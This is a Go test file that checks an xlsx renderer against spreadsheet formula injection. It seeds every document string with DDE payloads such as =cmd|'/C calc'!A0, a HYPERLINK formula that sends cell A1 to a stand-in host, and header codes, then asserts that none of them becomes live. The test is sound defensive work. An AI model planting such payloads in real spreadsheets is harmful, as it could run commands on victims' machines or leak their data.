package xlsx

import (
	"fmt"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"compack/internal/dataset"
	"compack/internal/document"
)

// hostile are texts that programs take for commands where they stand as formulas, or
// for codes in a page's header.
var hostile = []string{"=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0", "\t=cmd|' /C calc'!A0", "\r=cmd|'/C calc'!A0",
	`=HYPERLINK("http://x?cmd|"&A1,"y")`, `"),cmd|'/C calc'!A0,("`, "&P&D cmd|'/C calc'!A0"}

// infect sets every text below v that is shown, and not those that say where a formula
// or a name stands, to one of the hostile ones.
func infect(v reflect.Value, n *int) {
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() && v.Type() != reflect.TypeFor[*dataset.Table]() && v.Kind() == reflect.Pointer {
			infect(v.Elem(), n)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			name := v.Type().Field(i).Name
			isKey := strings.Contains(name, "Formula") || slices.Contains([]string{"Metric", "Kind", "Status", "Dates", "Helpers", "Period", "Needed", "Key", "Better", "Locale", "Paper", "Language"}, name)
			if v.Type().Field(i).IsExported() && (!isKey || name == "Key" && v.Field(i).Kind() == reflect.Struct) {
				infect(v.Field(i), n)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			infect(v.Index(i), n)
		}
	case reflect.String:
		*n++
		v.SetString(fmt.Sprint(hostile[*n%len(hostile)], " ", *n))
	}
}

// quotedText is a text, or the name of a sheet, inside of a formula.
var quotedText = regexp.MustCompile(`"(?:[^"]|"")*"|'(?:[^']|'')*'`)

func TestNoTextOfADocumentIsEverLive(t *testing.T) {
	d := targeted(t)
	for i := range d.Workbook.Figures {
		for g := range d.Workbook.Figures[i].Groupings {
			d.Workbook.Figures[i].Groupings[g].Withheld = "x"
		}
	}
	n := 0
	infect(reflect.ValueOf(d).Elem(), &n)
	for _, p := range d.Workbook.Populations {
		def := p.Table.Def
		def.Title, def.Description = hostile[0], hostile[1]
		for i := range def.Fields {
			def.Fields[i].Title = fmt.Sprint(hostile[i%len(hostile)], i)
		}
		if c := p.Table.Col("title"); c != nil && c.Len() > 0 {
			c.Rewrite(func(s string) string { return hostile[len(s)%len(hostile)] })
		}
	}
	if n < 200 {
		t.Fatalf("only %d texts were set", n)
	}
	data, err := Render(d, Options{Brand: document.Brand{Logo: logo(t)}})
	if err != nil {
		t.Fatal(err)
	}
	looked := 0
	for name, e := range partsOf(t, data) {
		for _, kind := range []string{"f", "formula", "definedName"} {
			for _, f := range e.all(kind) {
				looked++
				if bare := quotedText.ReplaceAllString(f.Text, ""); strings.Contains(bare, "cmd") || strings.Contains(bare, "HYPERLINK") {
					t.Errorf("%s: a formula is %q", name, f.Text)
				}
			}
		}
		for _, l := range e.all("hyperlink") {
			if !strings.HasPrefix(l.attr("location"), "'") || l.attr("id") != "" {
				t.Errorf("%s: a link leads to %q", name, l.attr("location"))
			}
		}
		for _, kind := range []string{"oddHeader", "oddFooter"} {
			for _, h := range e.all(kind) {
				if bare := strings.ReplaceAll(h.Text, "&&", ""); strings.Contains(bare, "&D") || strings.Count(bare, "&P") > 1 {
					t.Errorf("%s: a header is %q", name, h.Text)
				}
			}
		}
	}
	if looked < 300 {
		t.Errorf("only %d formulas and names were looked at", looked)
	}
	open(t, data)
}
